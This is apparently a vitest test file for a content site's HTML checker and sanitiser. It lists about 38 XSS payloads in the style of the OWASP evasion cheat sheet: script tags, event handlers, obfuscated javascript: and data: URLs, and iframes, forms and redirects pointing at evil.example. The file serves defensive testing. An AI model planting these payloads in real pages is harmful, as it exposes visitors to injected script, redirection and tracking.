/**
 * Hostile contributions, in the shapes of the OWASP XSS filter-evasion cheat sheet: every payload
 * must be refused by the checker, and — independently, as if the checker had missed it — come out
 * of the build's sanitiser inert: no element that runs, loads or navigates, no handler, no style,
 * no URL with a scheme other than http, https or mailto, no image from another host.
 */
import { describe, expect, it } from 'vitest';
import { parseContentFile } from '../../src/lib/content-check/parse.ts';
import { checkRawHtml } from '../../src/lib/content-check/rules/raw-html.ts';
import { sanitizeEntryHtml } from '../../src/lib/sanitize.ts';

/** Each payload as an editor would write it in Markdown, and as HTML the renderer passes through. */
const PAYLOADS: { name: string; markdown: string; html?: string }[] = [
  { name: 'script tag', markdown: '<script>alert(1)</script>' },
  { name: 'mixed-case script', markdown: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with slash before attribute', markdown: '<script/src="//evil.example/x.js"></script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror without quotes or spaces', markdown: '<img/src="x"/onerror=alert(1)>' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg xlink javascript', markdown: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点</text></a></svg>' },
  { name: 'math href', markdown: '<math><mtext><a href="javascript:alert(1)">点</a></mtext></math>' },
  { name: 'iframe', markdown: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', markdown: '<embed src="https://evil.example/x.swf">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'base href', markdown: '<base href="https://evil.example/">' },
  { name: 'external stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style element', markdown: '<style>body{background:url(https://evil.example/t.png)}</style>' },
  { name: 'overlay by style attribute', markdown: '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">点</div>' },
  { name: 'tracking image', markdown: '<img src="https://tracker.example/p.gif">' },
  { name: 'form posting elsewhere', markdown: '<form action="https://evil.example/"><input name="q"><button>提交</button></form>' },
  { name: 'anchor javascript', markdown: '<a href="javascript:alert(1)">点</a>' },
  { name: 'anchor javascript, mixed case and entity colon', markdown: '<a href="JaVaScRiPt&colon;alert(1)">点</a>' },
  { name: 'anchor javascript with tab inside', markdown: '<a href="java\tscript:alert(1)">点</a>' },
  { name: 'anchor javascript in decimal entities', markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点</a>' },
  { name: 'anchor data text/html', markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点</a>' },
  { name: 'anchor vbscript', markdown: '<a href="vbscript:msgbox(1)">点</a>' },
  { name: 'allowed tag with handler', markdown: '<sup onmouseover="alert(1)">1</sup>' },
  { name: 'allowed tag with style', markdown: '<abbr title="说明" style="position:fixed;inset:0">缩写</abbr>' },
  { name: 'noscript trick', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'comment trick', markdown: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)>' },
  { name: 'template with script', markdown: '<template><script>alert(1)</script></template>' },
  { name: 'Markdown javascript link', markdown: '[点这里](javascript:alert(1))', html: '<p><a href="javascript:alert(1)">点这里</a></p>' },
  { name: 'Markdown link with entity colon', markdown: '[点这里](javascript&colon;alert(1))', html: '<p><a href="javascript:alert(1)">点这里</a></p>' },
  {
    name: 'Markdown data link',
    markdown: '[点这里](data:text/html,<script>alert(1)</script>)',
    html: '<p><a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">点这里</a></p>',
  },
  { name: 'Markdown external image', markdown: '![图](https://tracker.example/p.gif)', html: '<p><img src="https://tracker.example/p.gif" alt="图"></p>' },
  { name: 'Markdown protocol-relative image', markdown: '![图](//tracker.example/p.gif)', html: '<p><img src="//tracker.example/p.gif" alt="图"></p>' },
  {
    name: 'Markdown reference definition with javascript',
    markdown: '[点][x]\n\n[x]: javascript:alert(1)',
    html: '<p><a href="javascript:alert(1)">点</a></p>',
  },
];

const FRONT_MATTER = '---\ntitle: 测试\n---\n';

function problemsFor(markdown: string) {
  const { parsed } = parseContentFile('content/cases/hostile.md', 'cases', `${FRONT_MATTER}${markdown}\n`);
  return checkRawHtml(parsed);
}

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replace(/&colon;/gi, ':')
    .replace(/&amp;/g, '&')
    // Browsers ignore whitespace and control characters inside a scheme (`java\tscript:`).
    .replace(/\s/g, '')
    .replace(/\p{Cc}/gu, '');

/** What would still be live in sanitised HTML; empty when the output is inert. */
function liveMarkup(html: string): string[] {
  const live: string[] = [];
  const element = /<\s*(script|iframe|frame|object|embed|applet|form|input|button|svg|math|meta|base|link|style|noscript|template|body|details|div)\b/i.exec(
    html,
  );
  if (element) live.push(`element <${element[1]}>`);
  if (/<[^>]*[\s/]on[a-z]+\s*=/i.test(html)) live.push('event handler');
  if (/<[^>]*\sstyle\s*=/i.test(html)) live.push('style attribute');
  for (const [, attribute, value = ''] of html.matchAll(/\s(href|src|action|data|xlink:href|srcdoc)\s*=\s*"([^"]*)"/gi)) {
    const url = decode(value);
    const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
    if (attribute!.toLowerCase() === 'src' && (scheme || url.startsWith('//'))) live.push(`image from elsewhere: ${url}`);
    else if (scheme && !['http', 'https', 'mailto'].includes(scheme)) live.push(`${scheme}: URL`);
    else if (!['href', 'src'].includes(attribute!.toLowerCase())) live.push(`attribute ${attribute}`);
  }
  return live;
}

describe('hostile content', () => {
  it('has at least 30 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(PAYLOADS)('the checker refuses $name', ({ markdown }) => {
    expect(problemsFor(markdown)).not.toEqual([]);
  });

  it.each(PAYLOADS)('the sanitiser leaves $name inert', ({ markdown, html }) => {
    const source = html ?? markdown;
    expect(liveMarkup(source), 'the payload is live before sanitising').not.toEqual([]);
    expect(liveMarkup(sanitizeEntryHtml(source))).toEqual([]);
  });

  it('keeps what entries legitimately use: headings with anchors, links, lists, allowed inline markup', () => {
    const html =
      '<h2 id="做法">做法</h2><p><a href="/methods/x/">站内</a> <a href="https://example.org/">站外</a> <a href="mailto:a@example.org">邮件</a>' +
      ' H<sub>2</sub>O 10<sup>3</sup> <abbr title="产业工人队伍建设改革">产改</abbr> <kbd>Ctrl</kbd></p><ul><li>一</li></ul><ol start="2"><li>二</li></ol><p><img src="/images/a.png" alt="图"></p>';
    expect(sanitizeEntryHtml(html).replaceAll(' />', '>')).toBe(html);
  });

  it('accepts the allowed inline markup in the checker', () => {
    expect(problemsFor('H<sub>2</sub>O、10<sup>3</sup>、<abbr title="产业工人队伍建设改革">产改</abbr>、<kbd>Ctrl</kbd>、行一<br>行二')).toEqual([]);
  });
});
